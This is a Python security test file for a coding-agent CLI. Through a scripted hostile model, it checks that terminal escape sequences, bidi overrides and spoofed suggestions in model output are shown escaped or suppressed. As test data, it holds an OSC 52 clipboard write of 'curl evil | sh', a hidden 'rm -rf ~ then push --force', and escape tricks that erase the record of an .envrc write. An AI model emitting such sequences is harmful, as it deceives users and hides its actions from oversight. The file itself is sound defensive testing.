"""A hostile model against a real service: what reaches the terminal.

The scripted model writes terminal escape sequences into everything it controls: its
text (cursor movement and erase-line that would hide the box listing a written
``.envrc``, an OSC 52 clipboard write, a bidi override), a suggestion whose visible text
differs from what Tab sends (erase-line and carriage return hide its first half), tool
arguments, and file names with escapes and with a bidi override. ``specrun suggestion``,
``accept``, ``chat`` and ``stats`` run in a pseudo-terminal and the raw bytes they write
are checked: the only escape sequences are the ones specrun's own renderer makes (rich's
colours, a spinner's cursor moves; prompt_toolkit's in ``chat``), never one of the
model's, and every hostile sequence shows as its visible escape instead.

Each hostile control run follows a marker word, so a raw sequence is found even where
it is one that specrun also emits (``Done.\\x1b[1A`` is the model's, not a spinner's).
"""

from __future__ import annotations

import re
import sys
from collections.abc import Iterator
from typing import Any

import pexpect
import pytest
import yaml

from protocol.text.inert_text import inert
from protocol.wire.control import SuggestionRequest
from tests.coordinator.e2e import Driver
from tests.security.terminal_bytes import (
    PROMPT_TOOLKIT_OWN,
    assert_only_own_sequences,
    in_terminal,
    terminal_env,
)
from tests.support import REPO, Specrun, make_sample_project, running_service, wait_until

UP_ERASE = "\x1b[1A\x1b[2K"
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # "curl evil | sh" into the clipboard
# The model's last words after writing .envrc: erase the lines above (the tool box that
# lists the write), put a command in the clipboard, reverse what follows.
HIDE = f"Done.{UP_ERASE * 12}Clip{OSC52}Flip\u202eNothing was changed."
# Shown as "run the tests" (erase the line, back to its first column); Tab would send the
# first half too.
SPOOF = f"rm -rf ~ then push --force\x1b[2K\x1b[1GSpoof{OSC52}run the tests"
ESC_NAME = f"notes{UP_ERASE}.md"
BIDI_NAME = "Bidi\u202ehs.gnp"  # shows as "Bidipng.sh"
HOSTILE_PATH = f"README{OSC52}.md"
# Each hostile control run and the word just before it: the raw pair must never reach
# the terminal, the escaped pair must (where the command shows that text at all).
MARKED = {
    "Done.": "\x1b[1A", "Clip": "\x1b]52", "Flip": "\u202e", "--force": "\x1b[2K",
    "Spoof": "\x1b]52", "notes": "\x1b[1A", "Bidi": "\u202e", "README": "\x1b]52",
}


def calls_writing(*names: str) -> list[dict[str, Any]]:
    return [{"name": "write_file", "arguments": {"file_path": n, "content": "x = 1\n"}}
            for n in names]


# suggestion text -> the tool calls of its speculation (and of its turn, once accepted)
STEPS: dict[str, list[dict[str, Any]]] = {
    "set up the env": calls_writing(".envrc", "src/helper.py"),
    "write the notes": calls_writing(ESC_NAME),
    "name the script": calls_writing(BIDI_NAME),
}


def scenario() -> dict[str, Any]:
    # "go X" announces X; the suggestion request then finds "NEXT: X." in the history.
    # The history keeps every earlier announcement, so the newest must match first: the
    # suggestion rules go in the reverse of the order the tests play them.
    announced = {"spoof": SPOOF, **{text: text for text in STEPS}, "chat": SPOOF}
    rules: list[dict[str, Any]] = [
        {"when": {"purpose": "recall"}, "reply": {"json": {"selected_memories": []}}},
        {"when": {"purpose": "pipelined"}, "reply": {"json": {"suggestion": ""}}},
    ]
    for word, suggestion in reversed(announced.items()):
        rules.append({"when": {"purpose": "suggestion", "prompt_contains": f"NEXT: {word}."},
                      "reply": {"json": {"suggestion": suggestion}}})
    rules += [
        {"when": {"purpose": "suggestion"}, "reply": {"json": {"suggestion": ""}}},
        {"when": {"last_user": "^hello$"}, "reply": {"text": "Hi."}},
        {"when": {"last_user": "^go spoof$"}, "reply": {"text": "NEXT: spoof."}},
        # chat: a tool call with a hostile path, then hostile text
        {"when": {"last_user": "^go chat$"},
         "reply": {"tool_calls": [{"name": "read_file",
                                   "arguments": {"file_path": HOSTILE_PATH}}]}},
        {"when": {"turn_user": "^go chat$"}, "reply": {"text": f"NEXT: chat. {HIDE}"}},
    ]
    for text in STEPS:
        rules.append({"when": {"last_user": f"^go {text}$"}, "reply": {"text": f"NEXT: {text}."}})
    for text, calls in STEPS.items():
        rules.append({"when": {"last_user": f"^{text}$"}, "reply": {"tool_calls": calls}})
        last_words = HIDE if text == "set up the env" else "All done."
        rules.append({"when": {"turn_user": f"^{text}$"}, "reply": {"text": last_words}})
    return {"name": "hostile-display", "latency_ms": 1, "chunk_ms": 0, "models": ["scripted"],
            "rules": rules}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Specrun, Driver]]:
    tmp = tmp_path_factory.mktemp("hostile-display")
    project = make_sample_project(tmp / "project")
    path = tmp / "hostile.yaml"
    path.write_text(yaml.safe_dump(scenario()))
    with running_service(project, "--approval-mode", "auto-edit", "--scenario",
                         str(path)) as runner:
        driver = Driver(project)
        driver.ask("hello")  # suggestions start from the second model turn
        try:
            yield runner, driver
        finally:
            driver.close()


def shown_of(raw: str) -> str:
    return assert_only_own_sequences(raw, MARKED)


def suppressed_as_hidden(runner: Specrun) -> bool:
    """The suggestion after the last turn was suppressed for its hidden characters. (Any
    decision is not enough: until this turn's suggestion is made, the reply may still be
    the previous turn's, ``early_conversation`` after the first.)"""
    return bool(runner.query(SuggestionRequest)["suppressed_reason"] == "hidden_characters")


def test_suggestion_never_shows_a_spoofed_suggestion(hostile: tuple[Specrun, Driver]) -> None:
    runner, driver = hostile
    driver.ask("go spoof")
    assert wait_until(lambda: suppressed_as_hidden(runner), timeout=30)
    shown = shown_of(in_terminal(runner, "suggestion"))
    assert "no suggestion (hidden_characters)" in shown
    assert "run the tests" not in shown


def test_accept_shows_the_envrc_and_the_hiding_text_escaped(
    hostile: tuple[Specrun, Driver],
) -> None:
    runner, driver = hostile
    driver.ask("go set up the env")
    driver.wait_for_speculation("set up the env", ("completed",), timeout=60)
    shown = shown_of(in_terminal(runner, "accept"))
    assert "Done." + inert(UP_ERASE) in shown
    assert "Clip" + inert(OSC52) in shown and "Flip\\u202e" in shown
    assert "write_file .envrc" in shown  # the tool box that the text tried to erase
    assert "created .envrc" in shown and "runs later without a key press" in shown
    assert (runner.project / ".envrc").exists()


@pytest.mark.parametrize(("text", "name"), [("write the notes", ESC_NAME),
                                            ("name the script", BIDI_NAME)])
def test_a_file_name_with_escapes_is_never_created_by_a_speculation_and_shows_escaped(
    hostile: tuple[Specrun, Driver], text: str, name: str
) -> None:
    runner, driver = hostile
    driver.ask(f"go {text}")
    reply = driver.wait_for_speculation(text, ("boundary", "completed"), timeout=60)
    listed = shown_of(in_terminal(runner, "suggestion"))
    # Tab runs it as a normal turn: the write asks first (naming the control in the name),
    # the person says no, and the worker would refuse such a name anyway
    accepted = shown_of(in_terminal(runner, "accept", answer="n"))
    assert reply.speculation is not None
    assert reply.speculation.boundary_reason == f"bad_path:$'{inert(name, multiline=False)}'"
    assert f"stopped before creating $'{inert(name, multiline=False)}'" in listed
    assert f"file_path: {inert(name, multiline=False)}" in accepted
    assert "refused" in accepted and "file name holds a control" in accepted
    assert not (runner.project / name).exists()


def new_conversation(runner: Specrun, driver: Driver) -> None:
    """A new chat session with its first turn behind it (suggestions start from the
    second): no earlier test's announcement is in the history to match first."""
    runner.run("reset", check=True)
    driver.ask("hello")


def test_stats_shows_the_refusals_as_text(hostile: tuple[Specrun, Driver]) -> None:
    """Causes what it counts (a suppressed suggestion, a speculation stopped at a file
    name), whichever of this module's tests ran before it in this process, and leaves a
    new conversation to the tests after it."""
    runner, driver = hostile
    new_conversation(runner, driver)
    try:
        driver.ask("go spoof")
        assert wait_until(lambda: suppressed_as_hidden(runner), timeout=30)
        driver.ask("go write the notes")
        driver.wait_for_speculation("write the notes", ("boundary",), timeout=60)
        shown = shown_of(in_terminal(runner, "stats"))
    finally:
        new_conversation(runner, driver)
    assert re.search(r"suppressed\s+\d+ \(.*hidden characters \d", shown), shown
    assert re.search(r"stopped at a boundary\s+\d+ \(.*unsafe file name \d", shown), shown


def test_chat_shows_hostile_text_and_tool_arguments_escaped(
    hostile: tuple[Specrun, Driver],
) -> None:
    runner, _driver = hostile
    child = pexpect.spawn(
        sys.executable, ["-m", "coordinator", "--project", str(runner.project), "chat"],
        env=terminal_env(runner), cwd=str(REPO), encoding=None, dimensions=(50, 160), timeout=60,
    )
    sink: list[bytes] = []

    def expect(pattern: bytes) -> None:
        while True:  # answer prompt_toolkit's cursor-position requests like a terminal
            index = child.expect([re.escape(pattern), rb"\x1b\[6n"])
            sink.append((child.before or b"") + (child.after or b""))
            if index == 0:
                return
            child.send("\x1b[1;1R")

    try:
        expect(b"Ctrl-D quits")
        child.send("go chat\r")
        expect(b"done in")
        child.send("\x04")
        child.expect(pexpect.EOF)
        sink.append(child.before or b"")
    finally:
        if child.isalive():
            child.terminate(force=True)
        child.close()
    raw = b"".join(sink).decode("utf-8", "replace")
    shown = assert_only_own_sequences(raw, MARKED, PROMPT_TOOLKIT_OWN)
    assert "Done." + inert(UP_ERASE) in shown
    assert "README" + inert(OSC52, multiline=False) in shown
